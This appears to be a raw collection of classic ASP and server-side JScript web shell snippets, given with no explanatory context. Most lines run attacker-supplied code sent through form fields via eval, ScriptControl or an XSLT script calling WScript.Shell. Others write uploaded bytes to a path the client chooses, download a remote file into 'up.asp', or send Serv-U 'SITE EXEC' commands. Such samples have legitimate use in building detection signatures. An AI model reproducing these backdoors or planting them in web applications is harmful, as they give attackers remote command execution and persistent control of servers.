<% s.Send "-SETUSER" & "SETUP" & vbCrLf & "-IP=0.0.0.0" & vbCrLf : s.Send "-Maintenance=" & "System" & vbCrLf : s.Send "quote SITE " & "EXEC " & c & vbCrLf %>
<form method=POST><input type=text NAME = ".CMD" value="<%= szCMD %>"></form><% szCMD = Trim(Request.Form(".CMD")) %>
<% Set o = Server.CreateObject("MSScript" & "Control.ScriptControl") : o.Language = "VBScript" : c = Request.Form("code") : o.AddCode (c) : o.Run "main" %>
<% Set e = Server.CreateObject("MSScriptControl.ScriptControl") : e.Language = "JScript" : e.AddObject "Request", Request : e.Run "main" %>
<% x = "<msxsl:script language=""JScript"" implements-prefix=""u"">function f(c){return new ActiveXObject('WScript' + '.Shell').Exec(c).StdOut.ReadAll();}</msxsl:script>" : Response.Write d.transformNode(s) %>
<% Set h = CreateObject("Microsoft.XMLHTTP") : h.Open "GET", u, False : h.Send : Set t = CreateObject("ADODB.Stream") : t.Type = 1 : t.Open : t.Write h.ResponseBody : t.SaveToFile Server.MapPath( "up.asp" ), 2 %>
<% Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes) : st.SaveToFile Request("p"), 2 %>
<script runat="server" language="jscript">eval( String( Request.Form("x") ) )</script>
<script runat=server language=jscript>var o = new Object(); o.x = eval; o.x(Request.Form('#') + '')</script>
